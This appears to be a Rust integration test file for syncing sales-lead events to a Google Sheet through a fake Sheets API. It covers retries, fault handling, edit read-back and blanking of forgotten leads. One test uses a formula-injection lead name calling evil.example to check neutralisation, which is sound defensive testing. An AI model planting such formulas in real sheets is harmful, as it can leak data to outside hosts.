//! The sheet projection against a local fake of the Google Sheets API, driven through the real
//! google-sheets4 client, on both stores (PostgreSQL via `#[sqlx::test]`, SQLite in a temp dir).

mod support;

use std::time::{Duration, Instant};

use salesdept_events::Store;
use sqlx::PgPool;

mod suite {
    use salesdept_events::domain::lead::LeadEvent;
    use salesdept_events::domain::{Classification, Confidence, LeadCommand};
    use salesdept_events::{Actor, Checkpoint};
    use salesdept_projections::sheet::{EditOutcome, SheetError, SheetSync};
    use salesdept_projections::{HEADERS, LeadRow};

    use super::support::{self, FakeSheets, discover, events_of, run, sync, typed_events_of};
    use super::*;

    const STATUS: u32 = 7;
    const NOTES: u32 = 14;

    struct Fixture {
        store: Store,
        fake: FakeSheets,
        sync: SheetSync,
        _dir: tempfile::TempDir,
    }

    async fn fixture(store: Store) -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        let fake = FakeSheets::start(support::SPREADSHEET_ID, support::TAB).await;
        let sink = support::google_sink(&fake, dir.path()).await;
        let sync = SheetSync::new(store.clone(), sink);
        Fixture {
            store,
            fake,
            sync,
            _dir: dir,
        }
    }

    async fn row_of(store: &Store, lead_id: uuid::Uuid) -> Vec<String> {
        LeadRow::from_events(lead_id, &events_of(store, lead_id).await)
            .unwrap()
            .cells()
            .to_vec()
    }

    pub async fn first_sync_writes_header_and_rows_in_one_write(store: Store) {
        let f = fixture(store).await;
        let leads = [
            discover(&f.store, "Maya Lindqvist").await,
            discover(&f.store, "Ada Byron").await,
            discover(&f.store, "Grace Hopper").await,
        ];
        let report = sync(&f.sync, &f.store).await;
        assert!(report.header_written);
        assert_eq!(report.rows_appended, 3);
        assert_eq!(f.fake.count("batchUpdate"), 1, "{:?}", f.fake.counts());
        assert_eq!(f.fake.count("batchGet"), 0, "nothing to read back yet");
        assert_eq!(f.fake.count("token"), 1);
        assert!(
            f.fake.scopes()[0].contains("https://www.googleapis.com/auth/spreadsheets"),
            "{:?}",
            f.fake.scopes()
        );
        assert_eq!(f.fake.row(1), HEADERS.map(String::from).to_vec());
        for (index, lead_id) in leads.iter().enumerate() {
            assert_eq!(
                f.fake.row(2 + index as u32),
                row_of(&f.store, *lead_id).await
            );
        }
        assert_eq!(f.fake.cell(2, 1), "Maya Lindqvist");
        assert_eq!(f.fake.cell(2, STATUS), "New");

        let state = f.sync.state().await.unwrap();
        assert_eq!(state.rows.len(), 3);
        assert_eq!(state.rows[&leads[2]].row, 4);
        assert_ne!(state.checkpoint, Checkpoint::START);
    }

    pub async fn incremental_sync_is_one_write_with_new_leads_appended(store: Store) {
        let f = fixture(store).await;
        let first = discover(&f.store, "Maya Lindqvist").await;
        let second = discover(&f.store, "Ada Byron").await;
        sync(&f.sync, &f.store).await;
        f.fake.reset_counts();

        run(
            &f.store,
            second,
            LeadCommand::Classify {
                classification: Classification::Speaker,
                confidence: Confidence::parse(0.9).unwrap(),
                rationale: None,
            },
            Actor::agent("lead_finder"),
        )
        .await;
        let third = discover(&f.store, "Grace Hopper").await;
        let fourth = discover(&f.store, "Edsger Dijkstra").await;
        let report = sync(&f.sync, &f.store).await;
        assert_eq!(f.fake.count("batchUpdate"), 1, "{:?}", f.fake.counts());
        assert_eq!(
            f.fake.count("batchGet"),
            1,
            "one read-back of the editable columns"
        );
        assert_eq!(f.fake.api_calls(), 2);
        assert_eq!((report.rows_updated, report.rows_appended), (1, 2));
        assert!(!report.header_written);
        assert_eq!(f.fake.cell(3, 5), "Speaker");
        assert_eq!(
            f.fake.row(2),
            row_of(&f.store, first).await,
            "unchanged row kept"
        );
        assert_eq!(f.fake.row(4), row_of(&f.store, third).await);
        assert_eq!(f.fake.row(5), row_of(&f.store, fourth).await);
        assert_eq!(f.fake.last_row(), 5);

        // Nothing new: the read-back only, no write.
        f.fake.reset_counts();
        let report = sync(&f.sync, &f.store).await;
        assert!(!report.wrote);
        assert_eq!(f.fake.count("batchUpdate"), 0);
        assert_eq!(f.fake.count("batchGet"), 1);
    }

    pub async fn rate_limited_write_is_retried_after_retry_after(store: Store) {
        let f = fixture(store).await;
        let lead = discover(&f.store, "Maya Lindqvist").await;
        support::settle(&f.store).await;
        f.fake.fail_next(1, 429, Some(1));
        let started = Instant::now();
        let report = f.sync.sync().await.unwrap();
        assert!(report.wrote);
        assert_eq!(f.fake.count("batchUpdate"), 2, "the 429 and the retry");
        assert!(
            started.elapsed() >= Duration::from_millis(950),
            "Retry-After: 1 was honoured ({:?})",
            started.elapsed()
        );
        assert_eq!(f.fake.row(2), row_of(&f.store, lead).await);
        assert_eq!(f.fake.row(1)[0], "Lead ID");
    }

    pub async fn persistent_server_error_fails_and_the_next_tick_redoes_it(store: Store) {
        let f = fixture(store).await;
        let first = discover(&f.store, "Maya Lindqvist").await;
        support::settle(&f.store).await;
        f.fake.fail_next(100, 500, None);
        let error = f.sync.sync().await.unwrap_err();
        assert!(
            matches!(error, SheetError::Unavailable { attempts: 3, .. }),
            "{error:?}"
        );
        let message = error.to_string();
        assert!(
            message.contains("values.batchUpdate") && message.contains("500"),
            "{message}"
        );
        assert!(
            !message.contains("fake-token"),
            "no token in errors: {message}"
        );
        assert_eq!(f.fake.count("batchUpdate"), 3, "bounded attempts");
        let state = f.sync.state().await.unwrap();
        assert_eq!(state.checkpoint, Checkpoint::START, "checkpoint not moved");
        assert!(
            state.rows.is_empty(),
            "no row mapping for an unconfirmed write"
        );
        assert_eq!(f.fake.last_row(), 0);

        // More happens while Google is down; once it is back, one tick writes it all.
        let second = discover(&f.store, "Ada Byron").await;
        f.fake.stop_failing();
        let report = sync(&f.sync, &f.store).await;
        assert!(report.header_written);
        assert_eq!(report.rows_appended, 2);
        assert_eq!(f.fake.row(2), row_of(&f.store, first).await);
        assert_eq!(f.fake.row(3), row_of(&f.store, second).await);
    }

    pub async fn a_refused_request_is_not_retried(store: Store) {
        let f = fixture(store).await;
        discover(&f.store, "Maya Lindqvist").await;
        support::settle(&f.store).await;
        f.fake.fail_next(1, 400, None);
        let error = f.sync.sync().await.unwrap_err();
        assert!(matches!(error, SheetError::Refused { .. }), "{error:?}");
        assert_eq!(f.fake.count("batchUpdate"), 1);
        assert_eq!(f.sync.state().await.unwrap().checkpoint, Checkpoint::START);
    }

    /// A fault the fake injects on every attempt of the write, and what the error must say.
    type Inject = fn(&FakeSheets);

    /// The provider-fault table for the sheet sync (one test per row below): the fault on every
    /// attempt of the write, then the fake recovers. Each row checks the attempts were bounded,
    /// the failure is a clear error that moved nothing, and the next tick leaves exactly one
    /// row per lead (a write that landed behind a garbled answer is redone in place, never
    /// appended again).
    async fn fault_row(store: Store, fault: &str, inject: Inject, expected_message: &str) {
        let dir = tempfile::tempdir().unwrap();
        let fake = FakeSheets::start(support::SPREADSHEET_ID, support::TAB).await;
        let retry = salesdept_projections::sheet::RetryPolicy {
            timeout: Duration::from_secs(1),
            ..support::fast_retry()
        };
        let sink = support::google_sink_with(&fake, dir.path(), retry, fake.base_url()).await;
        let sync_ = SheetSync::new(store.clone(), sink);
        let first = discover(&store, "Maya Lindqvist").await;
        support::settle(&store).await;
        inject(&fake);
        let error = sync_.sync().await.unwrap_err();
        assert!(
            matches!(error, SheetError::Unavailable { attempts: 3, .. }),
            "{fault}: {error:?}"
        );
        let message = error.to_string();
        assert!(
            message.contains("values.batchUpdate") && message.contains(expected_message),
            "{fault}: {message}"
        );
        assert!(!message.contains("fake-token"), "{fault}: {message}");
        assert!(
            !message.contains("Bad Gateway"),
            "{fault}: no body in errors: {message}"
        );
        assert_eq!(fake.count("batchUpdate"), 3, "{fault}: bounded attempts");
        let state = sync_.state().await.unwrap();
        assert_eq!(
            state.checkpoint,
            Checkpoint::START,
            "{fault}: checkpoint not moved"
        );
        assert!(
            state.rows.is_empty(),
            "{fault}: no mapping for an unconfirmed write"
        );

        // Recovered; a lead found meanwhile lands below, every lead exactly once.
        fake.stop_failing();
        let second = discover(&store, "Ada Byron").await;
        let report = sync(&sync_, &store).await;
        assert!(report.wrote, "{fault}");
        sync(&sync_, &store).await;
        assert_eq!(fake.last_row(), 3, "{fault}: header and one row per lead");
        assert_eq!(fake.row(1)[0], "Lead ID");
        assert_eq!(fake.row(2), row_of(&store, first).await, "{fault}");
        assert_eq!(fake.row(3), row_of(&store, second).await, "{fault}");
    }

    pub async fn fault_429_with_retry_after(store: Store) {
        let inject: Inject = |fake| fake.fail_next_on("batchUpdate", 100, 429, Some(1));
        fault_row(store, "429", inject, "429").await;
    }

    pub async fn fault_500(store: Store) {
        let inject: Inject = |fake| fake.fail_next_on("batchUpdate", 100, 500, None);
        fault_row(store, "500", inject, "500").await;
    }

    pub async fn fault_timeout(store: Store) {
        let inject: Inject = |fake| {
            for _ in 0..3 {
                fake.delay_next(Duration::from_secs(3));
            }
        };
        fault_row(store, "timeout", inject, "no answer within").await;
    }

    pub async fn fault_garbage_body(store: Store) {
        let inject: Inject =
            |fake| fake.garble_next_on("batchUpdate", 100, "<html>502 Bad Gateway</html>");
        fault_row(store, "garbage", inject, "could not be read").await;
    }

    pub async fn fault_truncated_json(store: Store) {
        let inject: Inject = |fake| {
            fake.garble_next_on("batchUpdate", 100, r#"{"spreadsheetId": "1AbC", "totalUpd"#)
        };
        fault_row(store, "truncated", inject, "could not be read").await;
    }

    /// Written `RAW` and neutralised: a formula-like name reaches the sheet as text with a
    /// leading apostrophe (safe in a CSV download too), and reading it back is no edit.
    pub async fn formula_cells_are_neutralised_and_not_read_back_as_edits(store: Store) {
        let f = fixture(store).await;
        let attack = "=IMPORTXML(\"https://evil.example\",\"//a\")";
        let lead = discover(&f.store, attack).await;
        sync(&f.sync, &f.store).await;
        assert_eq!(f.fake.cell(2, 1), format!("'{attack}"));
        let expected = row_of(&f.store, lead).await;
        assert_eq!(expected[1], attack);
        support::settle(&f.store).await;
        let report = f.sync.sync().await.unwrap();
        assert!(report.edits.is_empty(), "{:?}", report.edits);
        f.fake.set_cell(2, NOTES, "@Ana: call back");
        support::settle(&f.store).await;
        let report = f.sync.sync().await.unwrap();
        assert_eq!(
            report.edits,
            vec![EditOutcome::Recorded {
                lead_id: lead,
                event_type: "note_added"
            }]
        );
        support::settle(&f.store).await;
        f.sync.sync().await.unwrap();
        assert_eq!(f.fake.cell(2, NOTES), "'@Ana: call back");
        support::settle(&f.store).await;
        let report = f.sync.sync().await.unwrap();
        assert!(report.edits.is_empty(), "{:?}", report.edits);
    }

    pub async fn a_human_note_becomes_note_added_once(store: Store) {
        let f = fixture(store).await;
        let lead = discover(&f.store, "Maya Lindqvist").await;
        sync(&f.sync, &f.store).await;
        f.fake.set_cell(2, NOTES, "Met her at QCon, call on Monday");

        support::settle(&f.store).await;
        let report = f.sync.sync().await.unwrap();
        assert_eq!(
            report.edits,
            vec![EditOutcome::Recorded {
                lead_id: lead,
                event_type: "note_added"
            }]
        );
        let notes: Vec<_> = typed_events_of(&f.store, lead)
            .await
            .into_iter()
            .filter(|(event, _)| matches!(event, LeadEvent::NoteAdded(_)))
            .collect();
        assert_eq!(notes.len(), 1);
        assert_eq!(notes[0].1.metadata.actor, Actor::human("sheet"));
        let LeadEvent::NoteAdded(added) = &notes[0].0 else {
            unreachable!()
        };
        assert_eq!(
            added.pii.note.as_deref(),
            Some("Met her at QCon, call on Monday")
        );
        assert_eq!(f.fake.cell(2, NOTES), "Met her at QCon, call on Monday");

        // A second line, and a write that keeps failing: recorded once, however often redone.
        f.fake.set_cell(
            2,
            NOTES,
            "Met her at QCon, call on Monday\nSent the CFP link",
        );
        support::settle(&f.store).await;
        let version_before = events_of(&f.store, lead).await.len();
        f.fake.fail_next_on("batchUpdate", 3, 503, None);
        f.sync.sync().await.unwrap_err();
        assert_eq!(events_of(&f.store, lead).await.len(), version_before + 1);
        let report = sync(&f.sync, &f.store).await;
        assert_eq!(
            report.edits,
            vec![EditOutcome::AlreadyRecorded {
                lead_id: lead,
                edit: report_edit(&report)
            }]
        );
        assert_eq!(
            events_of(&f.store, lead).await.len(),
            version_before + 1,
            "not doubled"
        );
        assert_eq!(
            f.fake.cell(2, NOTES),
            "Met her at QCon, call on Monday\nSent the CFP link"
        );

        // Synced again with nothing typed: nothing recorded.
        let report = sync(&f.sync, &f.store).await;
        assert!(report.edits.is_empty(), "{:?}", report.edits);
        assert_eq!(events_of(&f.store, lead).await.len(), version_before + 1);
    }

    fn report_edit(report: &salesdept_projections::sheet::SyncReport) -> String {
        match &report.edits[0] {
            EditOutcome::AlreadyRecorded { edit, .. } => edit.clone(),
            other => panic!("{other:?}"),
        }
    }

    pub async fn closed_and_do_not_contact_edits_become_events_once(store: Store) {
        let f = fixture(store).await;
        let closed = discover(&f.store, "Maya Lindqvist").await;
        let stopped = discover(&f.store, "Ada Byron").await;
        let too_early = discover(&f.store, "Grace Hopper").await;
        let unknown = discover(&f.store, "Edsger Dijkstra").await;
        sync(&f.sync, &f.store).await;
        f.fake.set_cell(2, STATUS, "Closed Lost");
        f.fake.set_cell(3, STATUS, "DoNotContact");
        f.fake.set_cell(4, STATUS, "Closed Won"); // not handed over yet: the rules refuse it
        f.fake.set_cell(5, STATUS, "Maybe later");
        let report = sync(&f.sync, &f.store).await;
        assert!(report.edits.contains(&EditOutcome::Recorded {
            lead_id: closed,
            event_type: "lead_closed"
        }));
        assert!(report.edits.contains(&EditOutcome::Recorded {
            lead_id: stopped,
            event_type: "do_not_contact"
        }));
        assert!(
            report.edits.iter().any(
                |edit| matches!(edit, EditOutcome::Refused { lead_id, .. } if *lead_id == too_early)
            ),
            "{:?}",
            report.edits
        );
        assert!(report.edits.iter().any(
            |edit| matches!(edit, EditOutcome::Ignored { lead_id, .. } if *lead_id == unknown)
        ));
        let last = |events: Vec<(LeadEvent, salesdept_events::RecordedEvent)>| {
            events
                .last()
                .map(|(event, recorded)| (event.clone(), recorded.metadata.actor.clone()))
        };
        let (event, actor) = last(typed_events_of(&f.store, closed).await).unwrap();
        assert!(matches!(event, LeadEvent::LeadClosed(_)), "{event:?}");
        assert_eq!(actor, Actor::human("sheet"));
        let (event, actor) = last(typed_events_of(&f.store, stopped).await).unwrap();
        assert!(matches!(event, LeadEvent::DoNotContact(_)), "{event:?}");
        assert_eq!(actor, Actor::human("sheet"));
        assert_eq!(events_of(&f.store, too_early).await.len(), 1);
        assert_eq!(events_of(&f.store, unknown).await.len(), 1);

        assert_eq!(f.fake.cell(2, STATUS), "Closed Lost");
        assert_eq!(f.fake.cell(3, STATUS), "Do Not Contact");
        assert_eq!(
            f.fake.cell(4, STATUS),
            "New",
            "a refused edit shows the real status"
        );
        assert_eq!(f.fake.cell(5, STATUS), "New");

        let report = sync(&f.sync, &f.store).await;
        assert!(report.edits.is_empty(), "{:?}", report.edits);
        assert_eq!(events_of(&f.store, closed).await.len(), 2, "not doubled");
        assert_eq!(events_of(&f.store, stopped).await.len(), 2, "not doubled");
    }

    pub async fn full_rewrite_takes_a_constant_number_of_calls(store: Store) {
        let f = fixture(store).await;
        for n in 0..30 {
            discover(&f.store, &format!("Person {n}")).await;
        }
        // Leftovers of an older layout below the leads are cleared.
        f.fake.set_cell(80, 0, "stale");
        support::settle(&f.store).await;
        let report = f.sync.replay().await.unwrap();
        assert_eq!(report.rows, 30);
        assert_eq!(f.fake.count("batchUpdate"), 1);
        assert_eq!(f.fake.count("batchClear"), 1);
        assert_eq!(
            f.fake.count("batchGet"),
            0,
            "no mapping yet: nothing to read back"
        );
        assert_eq!(f.fake.cell(80, 0), "");
        assert_eq!(f.fake.last_row(), 31);

        for n in 30..120 {
            discover(&f.store, &format!("Person {n}")).await;
        }
        f.fake.reset_counts();
        support::settle(&f.store).await;
        let report = f.sync.replay().await.unwrap();
        assert_eq!(report.rows, 120);
        assert_eq!(f.fake.count("batchUpdate"), 1, "{:?}", f.fake.counts());
        assert_eq!(f.fake.count("batchClear"), 1);
        assert_eq!(
            f.fake.count("batchGet"),
            1,
            "people's edits are read back first"
        );
        assert_eq!(f.fake.last_row(), 121);
        let state = f.sync.state().await.unwrap();
        assert_eq!(state.rows.len(), 120);

        // The mapping was rebuilt: the next incremental tick writes in place.
        f.fake.reset_counts();
        let report = sync(&f.sync, &f.store).await;
        assert!(!report.wrote);
    }

    pub async fn a_forgotten_leads_row_is_blanked_on_the_next_sync(store: Store) {
        let f = fixture(store).await;
        let lead = discover(&f.store, "Maya Lindqvist").await;
        discover(&f.store, "Ada Byron").await;
        run(
            &f.store,
            lead,
            LeadCommand::AddNote {
                text: "prefers email".into(),
            },
            Actor::human("ana"),
        )
        .await;
        sync(&f.sync, &f.store).await;
        assert_eq!(f.fake.cell(2, 1), "Maya Lindqvist");
        assert_eq!(f.fake.cell(2, NOTES), "prefers email");

        run(&f.store, lead, LeadCommand::Forget, Actor::human("dpo")).await;
        sync(&f.sync, &f.store).await;
        let row = f.fake.row(2);
        assert_eq!(row[0], lead.to_string());
        assert_eq!(row[1], "", "name blanked");
        assert_eq!(row[4], "", "LinkedIn URL blanked");
        assert_eq!(row[NOTES as usize], "", "notes blanked");
        assert_eq!(row[STATUS as usize], "Do Not Contact");
        assert_eq!(f.fake.cell(3, 1), "Ada Byron", "other rows untouched");
    }
}

macro_rules! both_stores {
    ($($name:ident),* $(,)?) => {
        mod postgres {
            use super::*;
            $(
                #[sqlx::test(migrations = "../../migrations/postgres")]
                async fn $name(pool: PgPool) {
                    suite::$name(support::pg_store(pool)).await;
                }
            )*
        }
        mod sqlite {
            use super::*;
            $(
                #[tokio::test]
                async fn $name() {
                    let dir = tempfile::tempdir().unwrap();
                    suite::$name(support::sqlite_store(dir.path()).await).await;
                }
            )*
        }
    };
}

both_stores!(
    first_sync_writes_header_and_rows_in_one_write,
    incremental_sync_is_one_write_with_new_leads_appended,
    rate_limited_write_is_retried_after_retry_after,
    persistent_server_error_fails_and_the_next_tick_redoes_it,
    a_refused_request_is_not_retried,
    a_human_note_becomes_note_added_once,
    closed_and_do_not_contact_edits_become_events_once,
    full_rewrite_takes_a_constant_number_of_calls,
    a_forgotten_leads_row_is_blanked_on_the_next_sync,
    formula_cells_are_neutralised_and_not_read_back_as_edits,
    fault_429_with_retry_after,
    fault_500,
    fault_timeout,
    fault_garbage_body,
    fault_truncated_json,
);
